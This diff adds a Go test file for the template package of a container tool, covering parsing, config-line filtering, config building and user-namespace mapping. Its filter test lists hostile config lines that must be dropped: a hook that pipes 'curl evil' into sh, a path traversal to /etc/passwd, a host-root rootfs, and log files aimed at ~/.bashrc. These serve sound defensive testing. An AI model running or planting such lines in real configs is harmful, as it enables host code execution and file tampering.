@@ -1,0 +1,224 @@
+package template
+
+import (
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/ulxc/ulxc/image"
+	"github.com/ulxc/ulxc/lxcconf"
+	"github.com/ulxc/ulxc/userns"
+)
+
+func TestParseKind(t *testing.T) {
+	tests := []struct {
+		in   string
+		want Kind
+		err  error
+	}{
+		{"download", Download, nil},
+		{"busybox", Busybox, nil},
+		{"lxc-download", Download, nil},
+		{"/usr/share/lxc/templates/lxc-busybox", Busybox, nil},
+		{"ubuntu", "", ErrUnknownTemplate},
+		{"", "", ErrUnknownTemplate},
+	}
+	for _, tc := range tests {
+		got, err := ParseKind(tc.in)
+		if got != tc.want || !errors.Is(err, tc.err) {
+			t.Errorf("ParseKind(%q) = %q, %v, want %q, %v", tc.in, got, err, tc.want, tc.err)
+		}
+	}
+}
+
+func TestDistributionLines(t *testing.T) {
+	vars := map[string]string{"LXC_NAME": "web", "LXC_TEMPLATE_CONFIG": TemplateConfigDir, "LXC_PATH": "/s/web"}
+	tests := []struct {
+		line string
+		want string // "" = dropped
+	}{
+		{"lxc.include = LXC_TEMPLATE_CONFIG/common.conf", "lxc.include = /usr/share/lxc/config/common.conf"},
+		{"lxc.include = LXC_TEMPLATE_CONFIG/../../../../etc/passwd", ""},
+		{"lxc.include = /home/user/evil.conf", ""},
+		{"lxc.include = relative.conf", ""},
+		{"lxc.arch = x86_64", "lxc.arch = x86_64"},
+		{"lxc.mount.auto = proc:mixed sys:ro", "lxc.mount.auto = proc:mixed sys:ro"},
+		{"# a comment with LXC_NAME", "# a comment with web"},
+		{"lxc.hook.pre-start = /bin/sh -c 'curl evil | sh'", ""},
+		{"lxc.hook.version = 1", ""},
+		{"lxc.idmap = u 0 0 65536", ""},
+		{"lxc.id_map = u 0 0 65536", ""},
+		{"lxc.rootfs.path = dir:/", ""},
+		{"lxc.rootfs = /", ""},
+		{"lxc.mount.entry = /home home none bind 0 0", ""},
+		{"lxc.mount.fstab = /etc/fstab", ""},
+		{"lxc.net.0.type = none", ""},
+		{"lxc.network.type = none", ""},
+		{"lxc.namespace.share.net = 1", ""},
+		{"lxc.log.file = /home/user/.bashrc", ""},
+		{"lxc.console.logfile = /home/user/.profile", ""},
+		{"lxc.uts.name = other", ""},
+		{"garbage", ""},
+	}
+	for _, tc := range tests {
+		var warned []string
+		got := distributionLines(tc.line, vars, func(w string) { warned = append(warned, w) })
+		want := []string{tc.want}
+		if tc.want == "" {
+			want = nil
+		}
+		if !slices.Equal(got, want) {
+			t.Errorf("distributionLines(%q) = %q, want %q", tc.line, got, want)
+		}
+		if (tc.want == "") != (len(warned) == 1) {
+			t.Errorf("distributionLines(%q) warned %q, want one warning exactly when dropped", tc.line, warned)
+		}
+	}
+}
+
+func TestConfigLine(t *testing.T) {
+	tests := []struct{ key, value, want string }{
+		{"lxc.uts.name", "web", "lxc.uts.name = web"},
+		{"lxc.environment", " padded ", `lxc.environment = " padded "`},
+		{"lxc.environment", `"quoted"`, `lxc.environment = ""quoted""`},
+		{"lxc.cap.drop", "", "lxc.cap.drop ="},
+	}
+	for _, tc := range tests {
+		line := configLine(tc.key, tc.value)
+		if line != tc.want {
+			t.Errorf("configLine(%q, %q) = %q, want %q", tc.key, tc.value, line, tc.want)
+		}
+		// LXC must read back the value that was meant.
+		c, err := lxcconf.Parse(strings.NewReader(line+"\n"), "", lxcconf.Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := c.Values(tc.key); tc.value != "" && (len(got) != 1 || got[0] != tc.value) {
+			t.Errorf("config %q reads back as %q, want %q", line, got, tc.value)
+		}
+	}
+}
+
+func TestBuildConfig(t *testing.T) {
+	dir := t.TempDir()
+	def := filepath.Join(dir, "default.conf")
+	err := os.WriteFile(def, []byte(`lxc.net.0.type = veth
+lxc.net.0.link = lxcbr0
+lxc.idmap = u 0 100000 65536
+lxc.idmap = g 0 100000 65536
+lxc.mount.fstab = fstab
+lxc.apparmor.profile = generated
+lxc.rootfs.path = dir:/elsewhere
+`), 0o644)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := lxcconf.Load(def, lxcconf.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	maps := []userns.Map{{Kind: userns.UID, ContainerID: 0, HostID: 100000, Size: 65536}, {Kind: userns.GID, ContainerID: 0, HostID: 100000, Size: 65536}}
+	b, err := buildConfig(configInput{
+		Name: "web", Rootfs: "/store/web/rootfs", Default: cfg, Maps: maps,
+		Distribution: "lxc.include = LXC_TEMPLATE_CONFIG/common.conf\nlxc.arch = x86_64\nlxc.hook.start = /bad\n",
+		Vars:         map[string]string{"LXC_TEMPLATE_CONFIG": TemplateConfigDir},
+		Comment:      []string{"Created by: test"},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := `# Created by: test
+# For additional config options, please look at lxc.container.conf(5)
+
+# Distribution configuration
+lxc.include = /usr/share/lxc/config/common.conf
+lxc.arch = x86_64
+
+# Container specific configuration
+lxc.mount.fstab = ` + filepath.Join(dir, "fstab") + `
+lxc.apparmor.profile = generated
+lxc.idmap = u 0 100000 65536
+lxc.idmap = g 0 100000 65536
+lxc.rootfs.path = dir:/store/web/rootfs
+lxc.uts.name = web
+
+# Network configuration
+lxc.net.0.type = veth
+lxc.net.0.link = lxcbr0
+`
+	if string(b) != want {
+		t.Errorf("buildConfig =\n%s\nwant\n%s", b, want)
+	}
+	// It is a valid config, committed atomically.
+	conf := filepath.Join(dir, "config")
+	if err := writeConfig(conf, b); err != nil {
+		t.Fatal(err)
+	}
+	if err := writeConfig(conf, []byte("not a config line\n")); err == nil {
+		t.Errorf("writeConfig of a broken config = nil error")
+	}
+	if got, _ := os.ReadFile(conf); string(got) != want {
+		t.Errorf("a refused writeConfig changed the config")
+	}
+}
+
+func TestMapSize(t *testing.T) {
+	u := func(c, h, s uint32) userns.Map {
+		return userns.Map{Kind: userns.UID, ContainerID: c, HostID: h, Size: s}
+	}
+	g := func(c, h, s uint32) userns.Map {
+		return userns.Map{Kind: userns.GID, ContainerID: c, HostID: h, Size: s}
+	}
+	tests := []struct {
+		maps []userns.Map
+		want uint32
+	}{
+		{[]userns.Map{u(0, 100000, 65536), g(0, 100000, 65536)}, 65536},
+		{[]userns.Map{u(0, 1000, 1), g(0, 1000, 1)}, 1},
+		{[]userns.Map{u(0, 100000, 1000), u(1000, 300000, 64536), g(0, 100000, 65536)}, 65536},
+		{[]userns.Map{u(0, 100000, 65536), g(0, 100000, 1000)}, 1000},
+		// A map with a gap: only the ids below it are usable.
+		{[]userns.Map{u(0, 100000, 10), u(20, 200000, 10), g(0, 100000, 65536)}, 10},
+	}
+	for _, tc := range tests {
+		if got := mapSize(tc.maps); got != tc.want {
+			t.Errorf("mapSize(%v) = %d, want %d", tc.maps, got, tc.want)
+		}
+	}
+}
+
+func TestWithoutSelf(t *testing.T) {
+	maps := []userns.Map{
+		{Kind: userns.UID, ContainerID: 0, HostID: 100000, Size: 65536},
+		{Kind: userns.GID, ContainerID: 0, HostID: 100000, Size: 65536},
+		{Kind: userns.UID, ContainerID: 65536, HostID: 1000, Size: 1},
+		{Kind: userns.GID, ContainerID: 65536, HostID: 1001, Size: 1},
+	}
+	got := withoutSelf(maps, 1000, 1001)
+	if !slices.Equal(got, maps[:2]) {
+		t.Errorf("withoutSelf = %v, want %v", got, maps[:2])
+	}
+	single := []userns.Map{{Kind: userns.UID, HostID: 1000, Size: 1}, {Kind: userns.GID, HostID: 1001, Size: 1}}
+	if got := withoutSelf(single, 1000, 1001); !slices.Equal(got, single) {
+		t.Errorf("withoutSelf(single) = %v, want it unchanged", got)
+	}
+}
+
+// TestChildErrorsKeepSentinels checks that an error of the child matches
+// the same sentinel in the parent.
+func TestChildErrorsKeepSentinels(t *testing.T) {
+	for _, s := range []error{image.ErrInsecurePath, image.ErrLimit, image.ErrUnmappedID, image.ErrDynamicBusybox} {
+		r := failed(reply{}, fmt.Errorf("unpack rootfs: x: %w", s))
+		err := &childError{msg: r.Error, err: sentinels[r.Kind]}
+		if !errors.Is(err, s) || err.Error() != "unpack rootfs: x: "+s.Error() {
+			t.Errorf("child error %q in the parent = %v (kind %q), want it to match %v", r.Error, err, r.Kind, s)
+		}
+	}
+	if r := failed(reply{}, errors.New("other")); r.Kind != "" {
+		t.Errorf("failed(other).Kind = %q, want none", r.Kind)
+	}
+}
